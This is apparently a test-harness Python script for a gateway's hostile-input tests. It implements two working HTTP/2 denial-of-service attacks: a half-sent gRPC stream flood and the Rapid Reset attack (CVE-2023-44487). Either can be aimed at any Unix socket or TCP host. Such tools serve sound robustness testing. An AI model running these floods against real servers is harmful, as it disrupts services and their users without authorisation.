#!/usr/bin/python3
"""A hostile HTTP/2 client for the gateway's hostile-input tests (Debian's python3-h2, a real HTTP/2
state machine: nothing here hand-frames the protocol).

  h2_flood.py halfsent   --unix PATH | --tcp HOST:PORT  [--streams N] [--size BYTES] [--seconds S]
      opens N gRPC streams (ReportPolicyStatus, no handle), each announcing a message of BYTES and sending
      only part of it, and holds them open for S seconds.
  h2_flood.py rapidreset --unix PATH | --tcp HOST:PORT  [--seconds S]
      opens streams and resets each at once (CVE-2023-44487), as fast as it can, for S seconds.

Prints one line: what it did (streams opened, resets sent, whether the server closed the connection).
Exits 0 unless it could not connect at all.
"""
import argparse
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

PATH = "/openshell.policy.gateway.v1.SandboxPolicy/ReportPolicyStatus"


def connect(args):
    if args.unix:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(args.unix)
        authority = "localhost"
    else:
        host, port = args.tcp.rsplit(":", 1)
        s = socket.create_connection((host, int(port)))
        authority = args.tcp
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn, authority


def headers(authority):
    return [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def pump(s, conn, timeout):
    """Reads what the server sent within `timeout`; False once the connection is gone."""
    s.settimeout(timeout)
    try:
        data = s.recv(65536)
    except socket.timeout:
        return True
    except OSError:
        return False
    if not data:
        return False
    try:
        conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return False
    out = conn.data_to_send()
    if out:
        try:
            s.sendall(out)
        except OSError:
            return False
    return True


def halfsent(args):
    s, conn, authority = connect(args)
    opened = 0
    alive = True
    for _ in range(args.streams):
        try:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers(authority))
            prefix = struct.pack(">BI", 0, args.size)
            window = conn.local_flow_control_window(sid)
            chunk = min(window, conn.max_outbound_frame_size, args.size // 2) - len(prefix)
            conn.send_data(sid, prefix + b"e" * max(chunk, 0))
            s.sendall(conn.data_to_send())
            opened += 1
        except (h2.exceptions.H2Error, OSError):
            alive = False
            break
        alive = pump(s, conn, 0.001)
        if not alive:
            break
    end = time.time() + args.seconds
    while alive and time.time() < end:
        alive = pump(s, conn, 0.2)
    print(f"halfsent: {opened} streams opened; connection {'open' if alive else 'closed by the server'}")
    s.close()


def rapidreset(args):
    s, conn, authority = connect(args)
    resets = 0
    alive = True
    end = time.time() + args.seconds
    while alive and time.time() < end:
        try:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers(authority))
                conn.reset_stream(sid)
                resets += 1
            s.sendall(conn.data_to_send())
        except (h2.exceptions.H2Error, OSError):
            alive = False
            break
        alive = pump(s, conn, 0.0001)
    print(f"rapidreset: {resets} streams opened and reset; connection {'open' if alive else 'closed by the server'}")
    s.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=["halfsent", "rapidreset"])
    target = parser.add_mutually_exclusive_group(required=True)
    target.add_argument("--unix")
    target.add_argument("--tcp")
    parser.add_argument("--streams", type=int, default=640)
    parser.add_argument("--size", type=int, default=3_900_000)
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    try:
        (halfsent if args.mode == "halfsent" else rapidreset)(args)
    except OSError as error:
        print(f"cannot connect: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
